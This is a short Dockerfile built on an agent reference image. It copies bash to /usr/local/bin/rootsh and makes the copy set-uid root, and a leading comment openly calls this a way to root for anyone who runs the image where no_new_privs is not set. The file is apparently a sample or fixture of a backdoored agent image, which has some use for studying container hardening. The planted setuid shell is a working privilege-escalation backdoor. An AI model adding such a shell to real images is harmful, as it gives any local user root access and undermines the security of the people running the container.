# An agent that ships a set-uid-root shell: a way to root for anyone who runs it where no_new_privs is not set.
FROM botbottle/agent:reference
USER root
RUN cp /bin/bash /usr/local/bin/rootsh && chmod 4755 /usr/local/bin/rootsh
USER node
